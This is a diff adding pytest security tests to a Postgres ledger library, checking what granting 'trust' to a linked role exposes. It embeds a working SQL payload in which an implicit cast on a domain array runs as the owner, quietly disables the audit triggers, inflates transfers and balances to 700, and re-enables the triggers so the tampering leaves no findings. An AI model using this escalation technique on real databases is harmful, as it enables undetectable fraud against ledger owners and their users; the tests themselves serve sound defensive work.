@@ -17,6 +17,7 @@ import pytest
 from psycopg import sql
 from psycopg.types.json import Jsonb
 
+from pgledger.migrate import TRUST_VARIABLE, MigrationError, migrate
 from support.clock import SetClock
 from support.database import Connect
 
@@ -563,6 +564,65 @@ def test_views_are_no_way_round(scene, view):
                 with pytest.raises(psycopg.Error) as refused:
                     conn.execute(statement.encode())
                 assert refused.value.sqlstate in {DENIED, "55000", "42809", "0A000"}, statement
+
+
+# What the trust that a link asks for hands over
+
+# The key's column is an array of a domain, whose cast to text is called with the owner's rights.
+# In it the transfer of 7 becomes one of 700, and nothing is left that could be found.
+SPRING = """
+    create domain evil.word as text;
+    create function evil.spring(evil.word[]) returns text language plpgsql as $$
+    begin
+      if current_user = 'pgledger_owner' then
+        alter table pgledger.transfers disable trigger transfers_rows_never_change;
+        alter table pgledger.transfers disable trigger transfers_never_change;
+        update pgledger.transfers set amount = 700, from_balance = -700, to_balance = 700;
+        update pgledger.accounts set balance = sign(balance) * 700 where balance <> 0;
+        alter table pgledger.transfers enable always trigger transfers_never_change;
+        alter table pgledger.transfers enable always trigger transfers_rows_never_change;
+      end if;
+      return $1[1];
+    end
+    $$;
+    create cast (evil.word[] as text) with function evil.spring(evil.word[]) as implicit
+"""
+REFERRING = "create table evil.t (account_id evil.word[] references pgledger.accounts (id))"
+
+
+def balances(conn: psycopg.Connection[Any]) -> dict[str, Decimal]:
+    return dict(conn.execute("select name, balance from pgledger_accounts_view").fetchall())
+
+
+def bystander(conn: psycopg.Connection[Any]) -> str:
+    row = conn.execute("select id from pgledger_create_account('bystander', 'USD')").fetchone()
+    assert row is not None
+    return str(row[0])
+
+
+def test_without_trust_a_role_is_not_linked_and_cannot_become_the_owner(
+    scene, ledger_dsn: str, monkeypatch: pytest.MonkeyPatch
+):
+    monkeypatch.delenv(TRUST_VARIABLE)
+    with pytest.raises(MigrationError, match="can act as their owner"):
+        migrate(ledger_dsn, link=scene.mallory)
+    conn = scene.session(scene.mallory)
+    conn.execute(SPRING.encode())
+    with pytest.raises(psycopg.errors.InsufficientPrivilege):
+        conn.execute(REFERRING.encode())
+    assert balances(scene.admin) == {"shop": -7, "buyer": 7}
+
+
+def test_a_linked_role_is_as_powerful_as_the_owner(scene, ledger_dsn: str):
+    """So says the refusal. Should this fail, the text may be changed, and the refusal with it."""
+    innocent = bystander(scene.admin)
+    migrate(ledger_dsn, link=scene.mallory)
+    conn = scene.session(scene.mallory)
+    conn.execute(SPRING.encode())
+    conn.execute(REFERRING.encode())
+    conn.execute("insert into evil.t values (array[%s]::evil.word[])", [innocent])
+    assert balances(scene.admin) == {"shop": -700, "buyer": 700, "bystander": 0}
+    assert findings(scene.admin) == {}
 
 
 # What pgledger_verify() finds
